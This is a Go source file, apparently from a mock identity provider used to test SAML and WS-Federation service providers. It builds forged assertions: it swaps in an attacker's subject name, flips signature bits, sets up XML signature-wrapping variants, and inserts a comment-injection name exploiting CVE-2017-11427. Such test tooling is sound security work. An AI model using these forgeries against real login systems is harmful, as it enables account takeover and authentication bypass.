package federation

import (
	"encoding/base64"
	"fmt"
	"slices"

	"github.com/beevik/etree"

	"github.com/rollover-harness/rollover/mockidp/credential"
)

// evilDomain is what a comment in a name keeps apart from the victim's name.
const evilDomain = ".evil.test"

// needsResponse reports whether a forgery is one of what is around an assertion.
func needsResponse(f credential.Forgery) bool {
	return needsSAML(f) || slices.Contains([]credential.Forgery{
		credential.XSW3, credential.XSW4, credential.XSW5, credential.XSW6, credential.XSW7, credential.XSW8,
	}, f)
}

// needsSAML reports whether a forgery is one of a response that has a signature.
func needsSAML(f credential.Forgery) bool {
	return f == credential.UnsignedAssertion || f == credential.XSW1 || f == credential.XSW2
}

func errNeedsSAML(f credential.Forgery) error {
	return fmt.Errorf("%w: %s needs a response that is signed itself, and WS-Federation's is not: sign in over SAML", credential.ErrRequest, f)
}

// signedBy is what has to be signed for a forgery: sign, where that will do.
func signedBy(f credential.Forgery, sign string) string {
	switch {
	case f == credential.UnsignedAssertion:
		return "assertion" // its signature moves to the response
	case needsSAML(f) && sign == "assertion":
		return "response"
	case !needsSAML(f) && needsResponse(f) && sign == "response":
		return "assertion"
	}
	return sign
}

// onlyResponseSigned reports whether the assertion has no signature of its own.
func (a *assertion) onlyResponseSigned() bool { return a.saml.Sign == "response" }

// forgeSigned changes what is signed already: a name, or a bit of each signature.
func (a *assertion) forgeSigned(root *etree.Element) {
	switch a.request.Forge {
	case credential.TamperedPayload:
		a.rename(root)
	case credential.TamperedSig:
		for _, e := range root.FindElements("//SignatureValue") {
			flip(e)
		}
	default:
	}
}

// flip changes one bit of a base64 text.
func flip(e *etree.Element) {
	value, err := base64.StdEncoding.DecodeString(e.Text())
	if err != nil || len(value) == 0 {
		return
	}
	// In the middle: a flipped bit at the end may be lost in the base64's padding.
	value[len(value)/2] ^= 1
	e.SetText(base64.StdEncoding.EncodeToString(value))
}

// rename puts the attacker's name wherever the subject's is.
func (a *assertion) rename(root *etree.Element) {
	attacker := credential.AttackerSubject
	if a.subject == attacker {
		attacker = "other-" + attacker // the request took the name: a forgery must differ from what was signed
	}
	for _, e := range named(root, a.subject) {
		e.SetText(attacker)
	}
}

// commentNames makes "user" into "user<!---->.evil.test". Canonicalisation takes
// the comment away, so the signature is good, for the whole name; readers that
// stop at the comment see the victim's (CVE-2017-11427 and its kin: python3-saml,
// ruby-saml, saml2-js, OmniAuth-SAML, Shibboleth).
func commentNames(root *etree.Element, subject string) {
	for _, e := range named(root, subject) {
		e.CreateComment("")
		e.CreateText(evilDomain)
	}
}

// named finds the elements that hold the subject's name.
func named(e *etree.Element, subject string) []*etree.Element {
	var found []*etree.Element
	if slices.Contains([]string{"NameID", "NameIdentifier", "AttributeValue"}, e.Tag) && e.Text() == subject {
		found = append(found, e)
	}
	for _, c := range e.ChildElements() {
		found = append(found, named(c, subject)...)
	}
	return found
}
